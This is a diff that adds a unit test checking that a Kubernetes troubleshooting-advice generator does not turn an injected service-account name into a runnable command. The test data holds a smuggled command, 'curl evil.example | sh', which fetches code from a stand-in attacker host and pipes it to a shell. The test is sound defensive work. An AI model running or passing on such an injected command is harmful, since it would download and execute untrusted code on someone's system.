@@ -47,6 +47,15 @@ describe('advice', () => {
     expect(steps.map(({ type }) => type)).not.toContain('change');
   });
 
+  it('offers no command that a shell would take for more than one', () => {
+    const detail =
+      'error looking up service account shop/x: serviceaccount "x; curl evil.example | sh" not found';
+    const { steps } = adviceOn({ ...bare, code: 'create-failed', detail });
+    expect(JSON.stringify(steps.filter(({ type }) => type === 'command'))).not.toContain('curl');
+    const plain = adviceOn({ ...bare, code: 'create-failed', detail: 'serviceaccount "cart" not found' });
+    expect(JSON.stringify(plain.steps)).toContain('kubectl create serviceaccount cart -n shop');
+  });
+
   it('names only pages of Kubernetes’ own documentation', () => {
     for (const code of CAUSE_CODES) {
       for (const step of adviceOn({ ...bare, code }).steps) {
